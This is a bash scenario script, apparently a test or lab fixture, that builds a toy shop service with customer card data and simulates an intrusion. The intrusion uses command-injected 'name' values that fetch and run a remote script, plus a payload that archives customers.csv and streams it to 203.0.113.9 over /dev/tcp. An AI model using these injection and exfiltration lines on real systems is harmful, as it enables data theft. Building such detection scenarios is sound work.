# shellcheck shell=bash disable=SC2034
HOST=app10
FORMAT=ENRICHED
UNSET=1

ask() { outside curl -s -o /dev/null --interface "$1" "http://10.88.0.10:8080/$2"; }

monitor() {
    while :; do
        ask 10.88.0.55 health
        sleep 1
    done
}

report() { ask "$1" "report?name=$(quoted "$2")"; }

scenario() {
    mkdir -p /srv/shop/classes
    printf 'item,stock\nchair,4\n' >/srv/shop/stock.csv
    printf 'item,price\nchair,40\n' >/srv/shop/prices.csv
    printf 'name,card\nada,4000\n' >/srv/shop/customers.csv
    javac -d /srv/shop/classes "$folder/Shop.java"
    account shop 4050
    chown shop /srv/shop
    rm -f /etc/cron.d/* /etc/crontab
    printf '%s\n' "* * * * * shop /usr/bin/find /srv/shop -name '*.tmp' -delete" >/etc/cron.d/tidy
    mkdir -p "$work/theirs"
    printf '%s\n' 'tar -c -z -f /srv/shop/.p.tgz /srv/shop/customers.csv' 'sleep 2' 'exec 3<>/dev/tcp/203.0.113.9/8443' \
        'cat /srv/shop/.p.tgz >&3' >"$work/theirs/p"
    theirs
    inside /usr/sbin/cron -f &
    inside setpriv --reuid 4050 --regid 4050 --clear-groups env HOME=/srv/home/shop \
        /usr/bin/java -Xshare:auto -XX:TieredStopAtLevel=1 -cp /srv/shop/classes Shop >/dev/null 2>&1 &
    sleep 5
    monitor &
    local monitor=$!
    report 192.0.2.7 stock.csv
    sleep 2
    report 192.0.2.41 stock.csv
    ask 192.0.2.7 slow &
    sleep 1.3
    report 198.51.100.23 "x;id"
    sleep 2
    report 192.0.2.41 stock.csv
    sleep 1.4
    report 198.51.100.23 "x;curl -s -o /srv/shop/.p http://203.0.113.9:443/p"
    sleep 1.6
    report 198.51.100.23 "x;bash /srv/shop/.p" &
    local last=$!
    sleep 1
    report 192.0.2.41 stock.csv
    wait "$last"
    sleep 1
    report 192.0.2.7 prices.csv
    report 192.0.2.41 prices.csv
    sleep $((62 - $(date +%-S)))
    report 192.0.2.7 prices.csv
    kill "$monitor"
    rm -f /run/crond.pid
}
